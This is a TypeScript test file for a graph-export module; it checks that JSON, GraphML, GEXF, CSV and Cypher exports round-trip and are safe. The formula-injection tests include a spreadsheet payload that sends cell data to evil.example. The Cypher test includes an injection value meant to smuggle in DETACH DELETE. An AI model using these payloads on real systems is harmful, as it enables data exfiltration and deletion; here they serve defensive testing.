import { describe, expect, it } from 'vitest';
import { FORMATS, EXPORT_FORMATS, exportFileName, type ExportGraph } from '../../server/export/index.ts';
import { cypherString } from '../../server/export/cypher.ts';
import { fixtureGraph, HOSTILE } from './fixture.ts';
import { parseCsv, parseXml, readCsvFiles, readCyjs, readGexf, readGraphml, splitCypher, unzip } from './readers.ts';

async function collect(iterable: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of iterable) parts.push(typeof chunk === 'string' ? Buffer.from(chunk, 'utf8') : Buffer.from(chunk));
  return Buffer.concat(parts);
}

const text = async (format: keyof typeof FORMATS, graph: ExportGraph, options = {}) =>
  (await collect(FORMATS[format].write(graph, options))).toString('utf8');

/** The elements as the formats must give them back, in any order. */
const byId = <T extends { id: string }>(items: readonly T[]) => [...items].sort((a, b) => a.id.localeCompare(b.id));

describe('export formats give back the same graph through independent readers', () => {
  const graph = fixtureGraph();

  it('json: the API shape with evidence, as it was', async () => {
    const doc = JSON.parse(await text('json', graph));
    expect(doc).toEqual(JSON.parse(JSON.stringify(graph)));
  });

  it('cyjs: Cytoscape elements whose data are the attributes', async () => {
    const doc = await text('cyjs', graph, { title: 'Quảng Tây — 广西' });
    expect(JSON.parse(doc).data.name).toBe('Quảng Tây — 广西');
    const read = readCyjs(doc);
    expect(byId(read.nodes)).toEqual(byId(graph.nodes));
    expect(byId(read.edges)).toEqual(byId(graph.edges));
  });

  it('graphml: typed keys, every node, edge and attribute back with diacritics', async () => {
    const xml = await text('graphml', graph);
    const read = readGraphml(xml);
    expect(byId(read.nodes)).toEqual(byId(graph.nodes));
    expect(byId(read.edges)).toEqual(byId(graph.edges));
    const keys = parseXml(xml).children.filter((c) => c.name === 'key');
    const typeOf = (domain: string, name: string) => keys.find((k) => k.attrs.for === domain && k.attrs['attr.name'] === name)?.attrs['attr.type'];
    expect(typeOf('node', 'ordinal')).toBe('long');
    expect(typeOf('node', 'score')).toBe('double');
    expect(typeOf('node', 'unnamed')).toBe('boolean');
    expect(typeOf('edge', 'weight')).toBe('double');
    expect(typeOf('edge', 'confirmed')).toBe('boolean');
    expect(typeOf('node', 'name')).toBe('string');
  });

  it('gexf: dynamic graph with dates as start times; attributes and diacritics back', async () => {
    const xml = await text('gexf', graph, { exportedAt: new Date('2025-05-01T00:00:00Z') });
    const read = readGexf(xml);
    expect(read.graph).toMatchObject({ mode: 'dynamic', timeformat: 'date', defaultedgetype: 'directed' });
    expect(byId(read.nodes)).toEqual(byId(graph.nodes));
    expect(byId(read.edges)).toEqual(byId(graph.edges));
    expect(Object.fromEntries(read.times.nodes)).toEqual({
      'nguyen-minh-vu': undefined,
      guangxi: undefined,
      'strasse-der-freundschaft': undefined,
      'joint-committee-2025': '2025-04-01',
      'memorandum-2025': '2025-04-14',
    });
    expect(Object.fromEntries(read.times.edges)).toEqual({ r1: '2025-01-01', r2: '2025-04-14', r3: undefined, r4: undefined });
    expect(Object.fromEntries(read.times.edgeKinds)).toEqual({ r1: 'CO_CHAIRED', r2: 'SIGNED', r3: 'ATTENDED', r4: 'HOSTED' });
  });

  it.each(['csv', 'neo4j-csv'] as const)('%s: nodes.csv and relationships.csv with neo4j-admin headers in a zip', async (format) => {
    const zip = await collect(FORMATS[format].write(graph));
    const files = await unzip(zip);
    const read = readCsvFiles(files);
    for (const node of graph.nodes) expect(read.labels.get(node.id)).toEqual(['Entity', node.type]);
    const typed = read.nodes.map((n) => ({ ...n, type: read.labels.get(n.id)![1] }));
    expect(byId(typed)).toEqual(byId(graph.nodes));
    expect(byId(read.edges)).toEqual(byId(graph.edges));
    const head = files.get('nodes.csv')!.toString('utf8').split('\n')[0]!;
    expect(head.startsWith('\uFEFFid:ID,:LABEL,')).toBe(true);
    expect(head).toContain('unnamed:boolean');
    expect(head).toContain('ordinal:long');
    expect(head).toContain('score:double');
    expect(files.get('relationships.csv')!.toString('utf8').split('\n')[0]).toMatch(/^\uFEFF:START_ID,:END_ID,:TYPE,id,/);
  });

  describe('text a spreadsheet would run as a formula', () => {
    const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
    const person = graph.nodes[0]!;
    const risky: ExportGraph = {
      nodes: FORMULAS.map((name, i) => ({ ...person, id: `formula-${i}`, name, label: name, score: -0.5 - i })),
      edges: [],
    };
    const namesIn = async (format: 'csv' | 'neo4j-csv') => {
      const [head, ...rows] = parseCsv((await unzip(await collect(FORMATS[format].write(risky)))).get('nodes.csv')!);
      const column = (name: string) => head!.indexOf(name);
      return rows.map((row) => ({ name: row[column('name')], label: row[column('label')], score: row[column('score:double')] }));
    };

    it('csv starts it with an apostrophe, so no cell runs; numbers keep their sign', async () => {
      expect(await namesIn('csv')).toEqual(FORMULAS.map((name, i) => ({ name: `'${name}`, label: `'${name}`, score: String(-0.5 - i) })));
    });

    it('neo4j-csv keeps it as stored, for neo4j-admin import', async () => {
      expect(await namesIn('neo4j-csv')).toEqual(FORMULAS.map((name, i) => ({ name, label: name, score: String(-0.5 - i) })));
    });
  });

  it('cypher: labels and types from the allow-lists, every value a safe literal', async () => {
    const script = await text('cypher', graph);
    const statements = splitCypher(script);
    // index, await, one UNWIND per node type, one per relation type
    expect(statements).toHaveLength(2 + 5 + 4);
    expect(script).toContain('MERGE (n:Entity:Person {id: row.id})');
    expect(script).toContain('MERGE (a)-[r:CO_CHAIRED {id: row.id}]->(b)');
    const bad = { nodes: [{ ...graph.nodes[0]!, type: 'Person) DETACH DELETE (x' as 'Person' }], edges: [] };
    await expect(text('cypher', bad)).rejects.toThrow(/not an allowed entity type/);
  });

  it('every format writes nothing but its own content type and a safe file name', () => {
    for (const format of EXPORT_FORMATS) {
      expect(FORMATS[format].contentType).toMatch(/^[a-z]+\/[a-z0-9.+-]+(; charset=utf-8)?$/);
      expect(exportFileName(format, ['Quảng Tây', 'Đà Nẵng "x"/../'])).toMatch(new RegExp(`^cooperation-graph-quang-tay-da-nang-x\\.${FORMATS[format].extension.replace('.', '\\.')}$`));
    }
  });
});

describe('edge cases of the writers', () => {
  it('a column of mixed types is written as text; integers with decimals as doubles', async () => {
    const base = fixtureGraph().nodes[0]!;
    const graph: ExportGraph = {
      nodes: [
        { ...base, id: 'a', mixed: 1, num: 1 },
        { ...base, id: 'b', mixed: 'one', num: 1.5 },
      ],
      edges: [],
    };
    const read = readGraphml(await text('graphml', graph));
    expect(byId(read.nodes).map((n) => [n.mixed, n.num])).toEqual([
      ['1', 1],
      ['one', 1.5],
    ]);
  });

  it('characters XML cannot carry become U+FFFD in XML and stay as they are elsewhere', async () => {
    const base = fixtureGraph().nodes[0]!;
    const graph: ExportGraph = { nodes: [{ ...base, name: 'bell\u0007 and \uFFFF end' }], edges: [] };
    expect(readGraphml(await text('graphml', graph)).nodes[0]!.name).toBe('bell\uFFFD and \uFFFD end');
    expect(readGexf(await text('gexf', graph)).nodes[0]!.name).toBe('bell\uFFFD and \uFFFD end');
    expect(JSON.parse(await text('json', graph)).nodes[0].name).toBe('bell\u0007 and \uFFFF end');
  });

  it('Cypher string literals escape quotes, backslashes and control characters', () => {
    expect(cypherString(`it's \\ "x"\n`)).toBe(`'it\\'s \\\\ "x"\\n'`);
    expect(cypherString('\u0000\u2028')).toBe(`'\\u0000\\u2028'`);
    expect(splitCypher(`RETURN ${cypherString(HOSTILE)};`)).toHaveLength(1);
  });

  it('an attribute name that is not an identifier is refused, not mangled', async () => {
    const base = fixtureGraph().nodes[0]!;
    await expect(text('graphml', { nodes: [{ ...base, 'a:b': 1 }], edges: [] })).rejects.toThrow(/names must be identifiers/);
  });

  it('output comes in chunks, not as one string', async () => {
    const base = fixtureGraph().nodes[0]!;
    const nodes = Array.from({ length: 3000 }, (_, i) => ({ ...base, id: `n${i}` }));
    for (const format of ['json', 'graphml', 'gexf', 'cypher'] as const) {
      let chunks = 0;
      for await (const _ of FORMATS[format].write({ nodes, edges: [] })) chunks++;
      expect(chunks, format).toBeGreaterThan(3);
    }
  });
});
